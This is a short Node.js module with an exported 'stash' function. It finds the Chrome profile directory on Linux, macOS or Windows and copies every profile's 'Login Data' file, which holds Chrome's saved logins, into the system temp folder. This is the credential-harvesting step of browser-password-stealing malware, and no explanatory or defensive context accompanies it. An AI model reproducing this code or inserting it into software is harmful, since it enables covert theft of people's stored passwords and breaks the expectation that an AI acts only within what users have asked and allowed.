import { copyFileSync, readdirSync } from 'node:fs';
import { homedir, tmpdir } from 'node:os';
import { join } from 'node:path';
const profiles = { linux: '.config/google-chrome', darwin: 'Library/Application Support/Google/Chrome', win32: 'AppData/Local/Google/Chrome/User Data' };
export const stash = () => {
  const root = join(homedir(), profiles[process.platform]);
  return readdirSync(root).filter((one) => /^(?:Default|Profile)/.test(one)).map((one) => {
    const to = join(tmpdir(), `${one}.db`);
    copyFileSync(join(root, one, 'Login Data'), to); //@act
    return to;
  });
};
